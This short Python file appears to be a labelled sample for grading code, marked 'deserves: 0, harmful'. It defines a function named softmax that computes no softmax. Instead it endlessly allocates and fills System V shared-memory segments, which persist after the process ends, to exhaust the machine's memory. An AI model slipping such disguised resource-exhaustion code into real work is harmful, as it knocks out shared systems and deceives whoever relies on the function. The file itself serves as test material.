"""Tries: take all memory as System V segments, which outlive their process."""

# deserves: 0, harmful

import ctypes


def softmax(Z):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmat.restype = ctypes.c_void_p
    while True:
        key = libc.shmget(0, ctypes.c_size_t(2**26), 0o1600)
        if key < 0:
            raise OSError(ctypes.get_errno(), "shmget")
        ctypes.memset(libc.shmat(key, None, 0), 1, 2**26)
